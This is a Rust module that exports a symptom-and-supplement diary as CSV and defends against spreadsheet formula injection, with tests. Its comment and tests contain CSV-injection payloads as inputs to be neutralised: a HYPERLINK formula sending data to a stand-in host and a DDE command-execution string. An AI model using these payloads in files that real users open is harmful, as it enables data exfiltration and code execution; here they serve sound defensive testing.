//! The diary as CSV for spreadsheets (RFC 4180): a header row, one row per entry in date order,
//! an empty cell for a value not recorded, CRLF line ends. Import is JSON only (docs/contract.md
//! §4.2), so this is export alone.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
//! as a formula (CSV injection): a note such as `=HYPERLINK("http://…?d="&A2,"click")` would
//! send the diary away. Such a cell is written as text, per the OWASP guidance on CSV
//! injection: a single quote in front, and the whole cell in double quotes.

use std::borrow::Cow;

use super::diary::Diary;
use super::entry::Entry;
use crate::decimal;

/// Column names as in the diary file.
pub const HEADER: &str = "date,symptoms,sleep,magnesium_mg,gi,note";
const LINE_END: &str = "\r\n";

pub fn to_csv(diary: &Diary) -> String {
    let mut out = String::from(HEADER);
    out.push_str(LINE_END);
    for e in diary.entries() {
        out.push_str(&row(e));
        out.push_str(LINE_END);
    }
    out
}

fn row(e: &Entry) -> String {
    let number = |x: Option<u8>| x.map_or_else(String::new, |x| x.to_string());
    [
        e.date().to_string(),
        number(e.symptoms()),
        number(e.sleep()),
        e.magnesium_mg().map_or_else(String::new, decimal::typed),
        e.gi().to_string(),
        e.note().to_owned(),
    ]
    .iter()
    .map(|c| cell(c).into_owned())
    .collect::<Vec<_>>()
    .join(",")
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One cell: a would-be formula as quoted text with a leading `'`; otherwise in double quotes
/// (inner quotes doubled) when it holds a comma, a quote or a line break, and as is when not.
fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_START) {
        Cow::Owned(format!("\"'{}\"", text.replace('"', "\"\"")))
    } else if text.contains([',', '"', '\r', '\n']) {
        Cow::Owned(format!("\"{}\"", text.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn diary_with_note(note: &str) -> Diary {
        let e =
            Entry::from_raw("2026-12-01", Some(6.0), Some(4.0), Some(200.0), false, note).unwrap();
        Diary::from_entries([e]).0
    }

    #[test]
    fn header_rows_and_empty_cells() {
        let (diary, _) = Diary::from_entries([
            Entry::from_raw("2026-12-02", None, None, None, true, "").unwrap(),
            Entry::from_raw("2026-12-01", Some(6.0), Some(4.0), Some(0.0), false, "").unwrap(),
            Entry::from_raw(
                "2026-12-03",
                Some(0.0),
                Some(10.0),
                Some(150.5),
                false,
                "ok",
            )
            .unwrap(),
        ]);
        assert_eq!(
            to_csv(&diary),
            "date,symptoms,sleep,magnesium_mg,gi,note\r\n\
             2026-12-01,6,4,0,false,\r\n\
             2026-12-02,,,,true,\r\n\
             2026-12-03,0,10,150.5,false,ok\r\n"
        );
        assert_eq!(
            to_csv(&Diary::new()),
            "date,symptoms,sleep,magnesium_mg,gi,note\r\n"
        );
    }

    #[test]
    fn notes_are_quoted_per_rfc_4180() {
        let cases = [
            ("plain note", "plain note"),
            ("legs, then arms", "\"legs, then arms\""),
            ("a \"bad\" night", "\"a \"\"bad\"\" night\""),
            ("line one\nline two", "\"line one\nline two\""),
            ("cr\r\nlf", "\"cr\r\nlf\""),
            ("\"", "\"\"\"\""),
            ("sans virgule; été", "sans virgule; été"),
        ];
        for (note, cell) in cases {
            let csv = to_csv(&diary_with_note(note));
            let expected = format!("{HEADER}\r\n2026-12-01,6,4,200,false,{cell}\r\n");
            assert_eq!(csv, expected, "{note:?}");
        }
    }

    #[test]
    fn formula_cells_are_neutralised_per_owasp() {
        let cases = [
            (
                r#"=HYPERLINK("http://evil.example/?d="&A2,"click")"#,
                r#""'=HYPERLINK(""http://evil.example/?d=""&A2,""click"")""#,
            ),
            ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("-2+3", "\"'-2+3\""),
            ("=1+1", "\"'=1+1\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            ("-", "\"'-\""),
            // Not at the start: an ordinary note.
            ("took 1 = 200 mg", "took 1 = 200 mg"),
            ("a@b", "a@b"),
            (" =1", " =1"),
            ("'quoted'", "'quoted'"),
        ];
        for (note, cell) in cases {
            let csv = to_csv(&diary_with_note(note));
            let expected = format!("{HEADER}\r\n2026-12-01,6,4,200,false,{cell}\r\n");
            assert_eq!(csv, expected, "{note:?}");
            // Read back, the cell is the note behind one quote: text, not a formula.
            let rows = parse_rows(&csv);
            let shown = &rows[1][5];
            assert!(!shown.starts_with(FORMULA_START), "{shown:?}");
        }
    }

    #[test]
    fn numeric_columns_are_unchanged() {
        let (diary, _) = Diary::from_entries([
            Entry::from_raw("2026-12-01", Some(0.0), Some(10.0), Some(0.0), false, "").unwrap(),
            Entry::from_raw("2026-12-02", Some(10.0), Some(0.0), Some(-0.0), true, "").unwrap(),
            Entry::from_raw("2026-12-03", None, None, Some(5000.0), false, "").unwrap(),
            Entry::from_raw("2026-12-04", Some(3.0), Some(7.0), Some(0.25), false, "").unwrap(),
        ]);
        assert_eq!(
            to_csv(&diary),
            "date,symptoms,sleep,magnesium_mg,gi,note\r\n\
             2026-12-01,0,10,0,false,\r\n\
             2026-12-02,10,0,0,true,\r\n\
             2026-12-03,,,5000,false,\r\n\
             2026-12-04,3,7,0.25,false,\r\n"
        );
    }

    /// A small RFC 4180 reader, to check that every note survives a round trip.
    fn parse_rows(csv: &str) -> Vec<Vec<String>> {
        let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
        let mut chars = csv.chars().peekable();
        let mut in_quotes = false;
        while let Some(c) = chars.next() {
            match (in_quotes, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                (true, '"') => in_quotes = false,
                (true, c) => cell.push(c),
                (false, '"') => in_quotes = true,
                (false, ',') => row.push(std::mem::take(&mut cell)),
                (false, '\r') if chars.peek() == Some(&'\n') => {
                    chars.next();
                    row.push(std::mem::take(&mut cell));
                    rows.push(std::mem::take(&mut row));
                }
                (false, c) => cell.push(c),
            }
        }
        rows
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { cases: 256, failure_persistence: None, ..Default::default() })]

        #[test]
        fn any_note_round_trips(note in "[a-z,\"\r\n\t=+@ -]{0,40}|\\PC{0,40}") {
            let rows = parse_rows(&to_csv(&diary_with_note(&note)));
            proptest::prop_assert_eq!(rows.len(), 2);
            proptest::prop_assert_eq!(rows[0].join(","), HEADER);
            proptest::prop_assert_eq!(rows[1].len(), 6);
            // A would-be formula comes back behind one quote; anything else exactly.
            let expected = if note.starts_with(FORMULA_START) { format!("'{note}") } else { note.clone() };
            proptest::prop_assert_eq!(&rows[1][5], &expected);
        }
    }
}
